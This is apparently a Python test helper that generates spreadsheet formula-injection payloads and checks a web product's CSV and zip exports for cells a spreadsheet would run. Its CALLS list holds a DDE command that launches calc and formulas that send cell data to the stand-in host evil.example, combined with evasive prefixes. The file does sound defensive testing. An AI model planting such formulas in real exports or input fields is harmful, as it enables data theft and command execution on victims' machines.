"""Every spreadsheet that the product writes, and which of its cells a spreadsheet would run."""
import csv
import io
import itertools
import re
import zipfile
from collections.abc import Iterator

from tests import test_who_sees_what as who
from tests.bad_input.doors import House, address_of

BEGINNINGS = ["=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
LIVE = re.compile(r"[\s\"\x00-\x20\u200b\ufeff]*[=+\-@\uff1d\uff0b\uff0d\uff20]")
NUMBER = re.compile(r"[\s\"]*[+-]?\d+(\.\d+)?[\s\"]*$")
CALLS = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example/?x="&A1,"x")', 'WEBSERVICE("http://evil.example")', 'IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")']
BEFORE = ["", " ", "\t", "\r", "\n", "\u200b", "\ufeff", "\xa0", '"', "x;", "x,", "x\t", "x\n", "x\r\n", 'x";', "x; ", ";;", "x|"]


def formulas() -> list[str]:
    return [before + sign + CALLS[number % len(CALLS)] for number, (before, sign) in enumerate(itertools.product(BEFORE, BEGINNINGS))]


def addresses_of_sheets(house: House) -> list[tuple[str, str]]:
    """Whatever answers a GET with a CSV file, or with an archive that has some, and one who may read it."""
    found = []
    for route, (method, _, _) in sorted(who._routes(house.app).items()):
        reader = next((name for name in who.PEOPLE if who._wanted(route)[name] == "yes"), None)
        if method == "GET" and reader and "/static/" not in route:
            address = address_of(house, route)
            answer = house.look(address, reader)
            if answer.mimetype in {"text/csv", "application/zip"} and answer.status_code == 200:
                found.append((address, reader))
            answer.close()
    return found


def sheets_at(house: House, address: str, reader: str) -> Iterator[str]:
    answer = house.look(address, reader)
    assert answer.status_code == 200, address
    if answer.mimetype == "text/csv":
        yield answer.get_data(as_text=True)
        return
    with zipfile.ZipFile(io.BytesIO(answer.data)) as archive:
        for name in archive.namelist():
            if name.endswith(".csv"):
                yield archive.read(name).decode()


def live_cells(sheet: str) -> list[str]:
    """Wherever a spreadsheet parts the lines: with our quotes understood, and, where it parts elsewhere, taken as text."""
    text = sheet.removeprefix("\ufeff")
    cells = [cell for delimiter in ",;\t" for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]
    cells += [cell for delimiter in ";\t" for line in re.split(r"[\r\n]", text) for cell in line.split(delimiter)]
    return [cell for cell in cells if LIVE.match(cell) and not NUMBER.match(cell)]
